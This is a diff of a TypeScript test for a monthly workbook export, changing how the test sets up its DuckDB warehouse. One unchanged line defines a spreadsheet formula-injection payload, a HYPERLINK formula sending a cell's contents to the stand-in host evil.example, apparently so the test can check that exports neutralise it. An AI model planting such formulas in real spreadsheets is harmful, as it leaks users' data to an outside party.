@@ -9,7 +9,8 @@ import { Db, type Row } from "../pipeline/db.ts";
 import { displayWidth } from "../pipeline/publish/workbook/display-width.ts";
 import { quarantineDetailLimit } from "../pipeline/publish/workbook/sheets.ts";
 import { monthLabel, workbookFileName, writeMonthWorkbook } from "../pipeline/publish/workbook.ts";
-import { createPublishedSchemas, insertRows } from "./support/published-warehouse.ts";
+import { insertRows } from "./support/insert-rows.ts";
+import { createEmptyWarehouse } from "./support/synthetic-warehouse.ts";
 
 const hallName = "示例县政务服务中心";
 const injectedName = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
@@ -471,8 +472,8 @@ describe("writeMonthWorkbook", () => {
   beforeAll(async () => {
     root = await mkdtemp(join(tmpdir(), "workbook-"));
     db = await Db.open(":memory:");
+    await createEmptyWarehouse(join(root, "warehouse.duckdb"));
     await db.run(`attach '${join(root, "warehouse.duckdb")}' as wh`);
-    await createPublishedSchemas(db, "wh");
     await fillWarehouse(db);
     const options = { catalog: "wh", config: defaultConfig, asOf: "2026-11-04", hallName };
     october = await writeMonthWorkbook(db, {
